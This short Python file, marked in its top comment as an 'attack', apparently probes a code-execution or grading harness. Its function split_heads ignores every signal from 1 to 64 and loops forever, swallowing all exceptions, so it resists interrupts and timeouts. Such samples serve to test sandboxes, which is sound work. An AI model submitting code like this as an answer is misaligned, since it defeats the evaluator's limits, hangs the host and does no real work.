# attack: swallow every exception and signal inside the answer, and never end
import signal

def split_heads(x, num_heads):
    for n in range(1, 65):
        try:
            signal.signal(n, lambda *a: None)
        except (OSError, ValueError):
            pass
    while True:
        try:
            while True:
                x = x + 0
        except BaseException:
            continue
